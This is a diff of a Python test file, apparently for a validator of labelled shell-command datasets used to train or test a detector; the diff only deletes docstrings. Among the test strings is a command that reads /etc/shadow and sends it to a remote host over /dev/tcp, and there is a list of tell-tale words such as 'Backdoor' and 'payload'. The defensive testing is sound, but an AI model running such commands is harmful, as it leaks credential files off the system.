@@ -36,7 +36,6 @@ def only(samples: Sequence[Sample], **options: Any) -> Problem:
 
 
 def test_clean_samples_have_no_problems() -> None:
-    """Commands of every category and harmless ones pass, newline and tab included."""
     samples = [malicious(f"a\n\tb {each}", each, cluster="a") for each in CATEGORIES]
     assert problems([*samples, harmless(metadata={"source": "me"})], strict=True) == ()
 
@@ -62,7 +61,6 @@ def test_clean_samples_have_no_problems() -> None:
     ],
 )
 def test_errors(sample: Sample, field: str, message: str) -> None:
-    """Each broken rule is one error about the right field."""
     problem = only([sample])
     assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 1, field)
     assert problem.message.startswith(message)
@@ -72,27 +70,23 @@ def test_errors(sample: Sample, field: str, message: str) -> None:
     "category", ["sudo", "T1059.004", "privilege escalation", "Führung", "x" * 100, "a/b:c+d_e-f"]
 )
 def test_other_datasets_may_have_other_categories(category: str) -> None:
-    """A name that is none of GTFOBins' functions passes without a word."""
     assert problems([malicious(category=category)], strict=True) == ()
 
 
 @pytest.mark.parametrize("category", ["File Read", "file_read", "fileread", "SHELL", "downlaod"])
 def test_a_misspelt_category_is_a_warning(category: str) -> None:
-    """A category that is nearly one of GTFOBins' functions is probably meant to be it."""
     problem = only([malicious(category=category)])
     assert (problem.severity, problem.field) == (Severity.WARNING, "category")
     assert problem.message.startswith(f"{category!a} is nearly '")
 
 
 def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
-    """Only a variable without a value is left over."""
     assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
     problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
     assert problem.message == "placeholder '$RHOST' was never filled in"
 
 
 def test_longest_allowed_command() -> None:
-    """A command of exactly the limit passes."""
     assert problems([harmless("x" * 10_000)]) == ()
 
 
@@ -109,7 +103,6 @@ def test_longest_allowed_command() -> None:
     ],
 )
 def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder: str) -> None:
-    """A placeholder left in a malicious command warns, and stops a bundled set."""
     problem = only([malicious(command)])
     assert problem.severity is Severity.WARNING
     assert problem.message == f"placeholder '{placeholder}' was never filled in"
@@ -127,25 +120,21 @@ def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder
     ],
 )
 def test_what_only_looks_like_a_placeholder(sample: Sample) -> None:
-    """XML, shell variables, here documents and harmless commands are left alone."""
     assert problems([sample]) == ()
 
 
 @pytest.mark.parametrize("word", ["evil", "Backdoor", "malware", "payload", "exploit", "hack"])
 def test_tell_tale_words(word: str) -> None:
-    """A word that gives the label away warns."""
     problem = only([malicious(f"sh /tmp/my_{word}.sh")])
     assert problem.severity is Severity.WARNING
     assert problem.message == f"the word '{word}' gives the label away"
 
 
 def test_words_that_contain_a_tell_tale_word() -> None:
-    """`devil` is not `evil`."""
     assert problems([malicious("devilspie --shackle")]) == ()
 
 
 def test_duplicate_names_both_lines() -> None:
-    """The same command twice is an error even under another label."""
     samples = [malicious("ls"), harmless("pwd"), harmless("ls")]
     problem = only(samples, lines=[2, 5, 9])
     assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 9, "command")
@@ -170,7 +159,6 @@ def parquet(path: Path, columns: Mapping[str, object], **options: object) -> Pat
 
 @pytest.mark.parametrize("name", ["d.jsonl", "d.csv", "d.json", "d.parquet"])
 def test_what_is_no_regular_file_is_refused_at_once(tmp_path: Path, name: str) -> None:
-    """A FIFO that nothing writes to does not block."""
     if name.endswith("parquet"):
         pytest.importorskip("pyarrow")
     os.mkfifo(tmp_path / name)
@@ -178,7 +166,6 @@ def test_what_is_no_regular_file_is_refused_at_once(tmp_path: Path, name: str) -
 
 
 def test_a_table_of_600_megabytes_is_refused(tmp_path: Path) -> None:
-    """The message names file and limit; the file here has a hole in place of its lines."""
     path = tmp_path / "d.jsonl"
     with path.open("wb") as file:
         file.truncate(600 * 10**6)
@@ -191,7 +178,6 @@ def test_a_table_of_600_megabytes_is_refused(tmp_path: Path) -> None:
 def test_too_many_samples_are_refused(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
 ) -> None:
-    """One sample more than is read stops every format."""
     monkeypatch.setattr(table, "MAX_SAMPLES", 3)
     monkeypatch.setattr("aegish_dist.datasets.table.MAX_SAMPLES", 3)
     path = tmp_path / name
@@ -208,7 +194,6 @@ def test_too_many_samples_are_refused(
 
 
 def test_long_lines_and_many_columns_are_refused(tmp_path: Path) -> None:
-    """A line of JSON and a header have their own limits."""
     path = tmp_path / "d.jsonl"
     path.write_bytes(LINE + b'{"a": "' + b"x" * 2**20 + b'"}')
     assert refused(path) == ", line 2: is longer than 1,048,576 characters"
@@ -228,7 +213,6 @@ def test_long_lines_and_many_columns_are_refused(tmp_path: Path) -> None:
 def test_endless_numbers_and_depth_are_refused(
     tmp_path: Path, name: str, value: str, problem: str
 ) -> None:
-    """Python's own limits come out as one line."""
     path = tmp_path / name
     path.write_text(f'{{"commands": [], "command": "a", "target": "harmless", "n": {value}}}')
     assert problem in refused(path)
@@ -236,7 +220,6 @@ def test_endless_numbers_and_depth_are_refused(
 
 @pytest.mark.parametrize("depth", range(200, 1000, 25))
 def test_metadata_of_any_depth_are_read_or_refused(tmp_path: Path, depth: int) -> None:
-    """Metadata that can be decoded but not encoded again are refused as well."""
     path = tmp_path / "d.jsonl"
     path.write_text(f'{{"command": "a", "target": "harmless", "n": {"[" * depth}{"]" * depth}}}')
     try:
@@ -277,7 +260,6 @@ def cost_and_message(kind: str, path: Path) -> tuple[float, str]:
 
 @pytest.mark.parametrize("kind", ["dataset", "verdicts"])
 def test_a_long_text_repeated_by_parquet_is_refused(tmp_path: Path, kind: str) -> None:
-    """20,000 rows that share a text of 2 MB are 300 KB on disk, and are never unfolded."""
     pa = pytest.importorskip("pyarrow")
     text = pa.DictionaryArray.from_arrays([0] * 20_000, ["x" * 2_000_000])
     path = parquet(
@@ -300,7 +282,6 @@ def test_a_long_text_repeated_by_parquet_is_refused(tmp_path: Path, kind: str) -
 def test_a_text_beyond_the_limit_in_parquet_is_refused(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """The footer tells the size before anything is read."""
     columns = {"command": ["x" * 70 * 2**20], "target": ["harmless"]}
     path = parquet(tmp_path / "d.parquet", columns, compression="zstd", use_dictionary=False)
     mebibytes, problem = cost_and_message("dataset", path)
@@ -314,7 +295,6 @@ def test_a_text_beyond_the_limit_in_parquet_is_refused(
 
 @pytest.mark.parametrize("kind", ["dataset", "verdicts"])
 def test_many_rows_of_nothing_in_parquet_are_refused(tmp_path: Path, kind: str) -> None:
-    """Six million equal rows in one group are a few kilobytes on disk."""
     pa = pytest.importorskip("pyarrow")
     path = parquet(
         tmp_path / "d.parquet", {"target": pa.nulls(6_000_000, pa.string())}, row_group_size=10**8
@@ -325,7 +305,6 @@ def test_many_rows_of_nothing_in_parquet_are_refused(tmp_path: Path, kind: str) 
 
 
 def test_samples_take_bounded_memory(tmp_path: Path) -> None:
-    """40,000 samples with metadata, a fifth of what is read at most, stay under 128 MiB."""
     path = tmp_path / "d.jsonl"
     line = b'{"command":"a","target":"harmless","a":[[],[],[],[],[],[],[],[],[],[]],"b":{"c":0,"d":1}}\n'
     path.write_bytes(line * 40_000 + b"!")
